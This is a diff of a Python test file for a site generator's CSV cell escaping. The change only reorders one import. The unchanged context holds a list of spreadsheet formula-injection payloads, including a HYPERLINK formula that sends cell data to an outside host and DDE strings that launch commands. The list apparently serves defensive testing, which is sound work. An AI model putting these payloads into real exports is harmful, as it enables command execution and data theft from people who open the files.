@@ -7,11 +7,10 @@ import io
 import re
 
 import pytest
+from corpus_site import FILES, write
 
 from sitegen.cli import main
 from sitegen.text import csv_cell
-
-from corpus_site import FILES, write
 
 PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1", "=1+1"]
